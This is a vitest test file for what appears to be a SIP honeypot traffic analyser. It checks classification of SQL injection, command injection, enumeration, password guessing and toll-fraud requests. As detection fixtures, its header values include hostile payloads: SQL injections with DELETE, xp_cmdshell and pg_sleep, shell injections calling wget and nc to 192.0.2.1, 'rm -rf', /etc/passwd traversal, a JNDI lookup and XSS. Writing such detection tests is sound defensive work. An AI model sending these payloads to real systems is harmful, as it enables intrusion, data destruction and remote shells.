import { describe as group, expect, it } from 'vitest'
import { analyse, type Analysis } from '../../../src/sip/analysis.ts'
import { describe } from '../../../src/sip/describe.ts'
import type { AttackClass } from '../../../src/sip/attack/class.ts'
import { bytes, recording, request } from '../fixtures.ts'

const received = (raw: Uint8Array): Analysis => analyse({ raw, direction: 'in' })
const withHeaders = (headers: Record<string, string>, start = 'REGISTER sip:h SIP/2.0'): Analysis =>
  received(request({ start, headers }))

group('SQL injection', () => {
  const labelled = recording('sip-labelled/sqli-labelled.jsonl')

  it.each(labelled.map((line) => [line.case ?? '', line] as const))('labelled: %s', (_, line) => {
    expect(received(line.raw).class === 'sql-injection').toBe(line.label === 'sqli')
  })

  it.each([
    { From: '<sip:a@b>;tag=1', 'User-Agent': "x' UNION ALL SELECT NULL,NULL--" },
    { From: '<sip:1%27%20OR%20%271%27%3D%271@b>;tag=1' },
    { To: "<sip:1'/**/or/**/1=1@b>" },
    { 'User-Agent': '1; DELETE FROM cdr' },
    { 'User-Agent': "a' and (select 1)=1" },
    { Contact: "<sip:x'||(select pg_sleep(5))||'@b>" },
    { 'User-Agent': "a'\r\n or 1=1" },
    { 'User-Agent': "x') or name like '%" },
    { 'User-Agent': "x' and pin is not null" },
    { 'User-Agent': "x' or id<5" },
    { 'User-Agent': 'x union select user, secret from sip' },
    { 'User-Agent': "1;update sip set secret='a'" },
    { 'User-Agent': "1; exec xp_cmdshell 'dir'" },
    { 'User-Agent': "1'; shutdown --" },
    { 'User-Agent': "admin' -- -" },
    { 'User-Agent': '1;truncate table cdr' },
    { 'User-Agent': 'x || extractvalue(1,2)' },
    { 'User-Agent': '1 || pg_sleep(9)' },
    { 'User-Agent': 'benchmark (5000000, md5(1))' },
  ])('is found in %j', (headers) => expect(withHeaders(headers).class).toBe('sql-injection'))

  it.each([
    { From: '"Conan O\'Brien" <sip:o\'brien@b>;tag=1' },
    { From: '"Rock \'n\' Roll and 2=1" <sip:a@b>;tag=1' },
    { 'User-Agent': 'Select Union Phone (update 5; insert card)' },
    { Authorization: 'Digest username="or", realm="and=x", nonce="or/=a==", uri="sip:x", response="y"' },
    { From: '"Drop Table Catering" <sip:a;b=1@b>;tag=1' },
    { To: '<sip:*21*0123%23@h>' },
    { From: '"Smith (Holdings) and Sons" <sip:a@b>;tag=1' },
    { From: '"The \\"A\\" and B" <sip:a@b>;tag=1' },
    { From: '"\'Best\' or nothing is fine" <sip:a@b>;tag=1' },
    { From: '"Bob\' #3" <sip:a@b>;tag=1' },
    { Subject: "The Jones' -- a family" },
    { Subject: 'Dinner (pasta) or something like it; delete from your list' },
    { Subject: 'tasks; update my set of phones; exec meeting; shutdown on Friday' },
    { Subject: 'Union Select Ltd, Berlin: benchmark (2) results, sleep (8 hours)' },
    { From: '"Smith and Sons" <sip:order-by@b>;tag=or=1' },
  ])('is not found in %j', (headers) => expect(withHeaders(headers).class).not.toMatch(/injection/))
})

group('other injections', () => {
  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '$(wget http://192.0.2.1/x)',
    'a; wget 192.0.2.1/x',
    'a;id',
    'a | sh',
    'a && cat /etc/hosts',
    'a;rm -rf x',
    'a|python -c x',
    'a;nc 192.0.2.1 99',
    '../../../../etc/passwd',
    '${jndi:ldap://192.0.2.1/a}',
    '%25s%25s%25s%25n',
  ])('%s', (value) => expect(withHeaders({ 'User-Agent': value }).class).toBe('injection'))

  it.each([
    'Yealink SIP-T54W 96.86.0.100',
    'Linksys/SPA942-6.1.5(a)',
    'PortSIP UC Client  Android - v10.1.8',
    'A & B; (c) | d',
    'Dog & Cat Clinic',
    'Java | Python meeting',
    'R&D; sh office',
  ])('not in %s', (value) => expect(withHeaders({ 'User-Agent': value }).class).not.toMatch(/injection/))

  it('not in the list of what a phone wants kept private', () =>
    expect(withHeaders({ Privacy: 'user;id' }).class).toBe('extension-enumeration'))
})

group('the class of a request', () => {
  const digest = { Authorization: 'Digest username="101", realm="r", nonce="n", uri="sip:h", response="f"' }
  it.each<[AttackClass, string, Record<string, string>]>([
    ['options-sweep', 'OPTIONS sip:100@h SIP/2.0', {}],
    ['extension-enumeration', 'REGISTER sip:h SIP/2.0', {}],
    ['extension-enumeration', 'SUBSCRIBE sip:101@h SIP/2.0', {}],
    ['extension-enumeration', 'INVITE sip:101@h SIP/2.0', {}],
    ['password-guessing', 'REGISTER sip:h SIP/2.0', digest],
    ['password-guessing', 'INVITE sip:101@h SIP/2.0', digest],
    ['toll-fraud', 'INVITE sip:900046850780296@h SIP/2.0', {}],
    ['toll-fraud', 'INVITE sip:900046850780296@h SIP/2.0', digest],
    ['method-enumeration', 'MESSAGE sip:101@h SIP/2.0', {}],
    ['method-enumeration', 'BREW sip:101@h SIP/2.0', {}],
    ['signalling', 'ACK sip:101@h SIP/2.0', {}],
    ['signalling', 'BYE sip:101@h SIP/2.0', {}],
    ['signalling', 'INFO sip:101@h SIP/2.0', { To: '<sip:a@b>;tag=ours' }],
    ['research-scan', 'OPTIONS sip:101@h SIP/2.0', { 'User-Agent': 'censys.io research' }],
    ['extension-enumeration', 'REGISTER sip:h SIP/2.0', { 'User-Agent': 'research' }],
    ['password-guessing', 'REGISTER sip:h SIP/2.0', { 'User-Agent': 'research', ...digest }],
    ['toll-fraud', 'INVITE sip:900046850780296@h SIP/2.0', { 'User-Agent': 'Shodan' }],
    ['malformed', 'OPTIONS sip:101@h SIP/2.0', { From: '' }],
    ['malformed', 'OPTIONS sip:101@h SIP/2.0', { 'Content-Length': 'ten' }],
    ['malformed', 'OPTIONS sip:101@h SIP/9.0', {}],
  ])('%s: %s', (attack, start, headers) => expect(withHeaders(headers, start).class).toBe(attack))

  it("svwar's first, impossible extension is no telephone number", () => {
    const From = '"2521180689"<sip:2521180689@h>;tag=3235323131383036383901333038313537333132'
    const event = withHeaders({ From }, 'INVITE sip:2521180689@h SIP/2.0')
    expect(event).toMatchObject({ class: 'extension-enumeration', tool: 'unknown' })
    expect(event.number).toBeUndefined()
  })
})

group('what is no request', () => {
  it.each([
    ['non-sip', 'GET / HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n'],
    ['non-sip', '\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n'],
    ['non-sip', '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03'],
    ['non-sip', '*1\r\n$4\r\nINFO\r\n$1'],
    ['malformed', 'OPTIONS sip:nm'],
    ['malformed', 'INVITE\r\nVia: SIP/2.0/UDP x\r\n\r\n'],
    ['signalling', '\r\n\r\n'],
    ['signalling', ''],
    ['signalling', '\0'],
  ])('%s: %j', (attack, text) => expect(received(bytes(text))).toMatchObject({ kind: 'other', class: attack }))

  it('an answer is signalling with its CSeq method, as is all we send', () => {
    const answer = request({ start: 'SIP/2.0 401 Unauthorized', headers: { CSeq: '7 REGISTER', Server: 'x y' } })
    expect(received(answer)).toMatchObject({
      kind: 'response',
      status: 401,
      method: 'REGISTER',
      userAgent: 'x y',
      class: 'signalling',
    })
    expect(analyse({ raw: request(), direction: 'out' })).toMatchObject({ class: 'signalling', tool: 'unknown' })
  })
})

group('an analysis', () => {
  it('names users once each, and not the number called', () => {
    const event = withHeaders(
      {
        From: '<sip:101@h>;tag=1',
        To: '<sip:0046850780296@h>',
        Authorization: 'Digest username="101"',
        'Proxy-Authorization': 'Digest username="admin"',
      },
      'INVITE sip:0046850780296@h SIP/2.0',
    )
    expect(event).toMatchObject({
      users: ['101', 'admin'],
      fromUser: '101',
      requestUser: '0046850780296',
      requestUri: 'sip:0046850780296@h',
      severity: 'high',
    })
  })

  it('bounds every text', () => {
    const long = 'x'.repeat(5000)
    const event = withHeaders(
      { From: `<sip:${long}@h>;tag=1`, 'User-Agent': long, 'Call-ID': long },
      `${long} sip:${long}@h SIP/2.0`,
    )
    for (const text of [
      event.method,
      event.callId,
      event.userAgent,
      event.fromUser,
      event.requestUser,
      event.requestUri,
    ]) {
      expect(text).toHaveLength(512)
    }
  })

  it('tells the gravest fault', () => {
    const raw = request({ headers: { Subject: '\0', 'Content-Length': 'x' } })
    expect(received(raw).fault).toBe('Content-Length is no number')
    expect(received(request()).fault).toBeUndefined()
  })
})

group('a sentence', () => {
  const digest = 'Digest username="101"'
  it.each([
    ['INVITE to +46850780296 (prefix 9011)', request({ start: 'INVITE sip:901146850780296@h SIP/2.0' })],
    ['INVITE to +46850780296', request({ start: 'INVITE sip:+46850780296@h SIP/2.0' })],
    ['INVITE to 5551234', request({ start: 'INVITE sip:5551234@h SIP/2.0' })],
    [
      'REGISTER as alice with a password',
      request({ start: 'REGISTER sip:h SIP/2.0', headers: { Authorization: digest } }),
    ],
    ['REGISTER for extension bob', request({ start: 'REGISTER sip:h SIP/2.0' })],
    ['OPTIONS, asking who is there', request()],
    ['401 to REGISTER', request({ start: 'SIP/2.0 401 No', headers: { CSeq: '1 REGISTER' } })],
    ['OPTIONS, malformed: There is no To header', request({ headers: { To: '' } })],
    ['Something other than SIP', bytes('GET / HTTP/1.1\r\n\r\n')],
    ['Keep-alive', bytes('\r\n\r\n')],
    ['ACK as alice', request({ start: 'ACK sip:h SIP/2.0' })],
  ])('%s', (sentence, raw) => expect(describe(received(raw))).toBe(sentence))

  it('names the password svcrack says it tries', () => {
    const [, tried] = recording('sip-tools/svcrack.jsonl')
    expect(describe(received(tried?.raw ?? bytes('')))).toBe('REGISTER as 101 with the password 101')
  })
})
